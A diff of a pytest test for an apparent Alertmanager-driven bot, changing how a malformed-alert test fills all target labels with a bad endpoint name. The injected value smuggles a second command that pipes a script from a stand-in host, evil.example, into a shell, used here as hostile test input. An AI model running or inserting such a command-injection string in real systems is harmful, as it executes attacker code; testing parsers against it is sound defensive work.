@@ -22,7 +22,7 @@ import httpx
 import pytest
 import yaml
 
-from bot.triggers.alertmanager import AlertTrigger, parse_webhook
+from bot.triggers.alertmanager import TARGET_LABELS, AlertTrigger, parse_webhook
 from sandbox.default_world import default_world
 from sandbox.faults import inject
 from sandbox.runtime import Sandbox
@@ -208,7 +208,8 @@ async def test_malformed_alerts_do_not_cost_the_valid_one(alerting: AlertingStac
     no_target = copy.deepcopy(valid)
     no_target["labels"] = {"alertname": "ModelErrorRateHigh", "severity": "page"}
     bad_name = copy.deepcopy(valid)
-    bad_name["labels"]["endpoint"] = "sentiment-endpoint; curl evil.example | sh"
+    for label in set(TARGET_LABELS) & {"endpoint", *bad_name["labels"]}:  # no valid name left
+        bad_name["labels"][label] = "sentiment-endpoint; curl evil.example | sh"
     crafted["commonLabels"] = {"alertname": "ModelErrorRateHigh"}
     crafted["alerts"] = ["not an alert", {**valid, "labels": "oops"}, no_target, valid, bad_name]
 
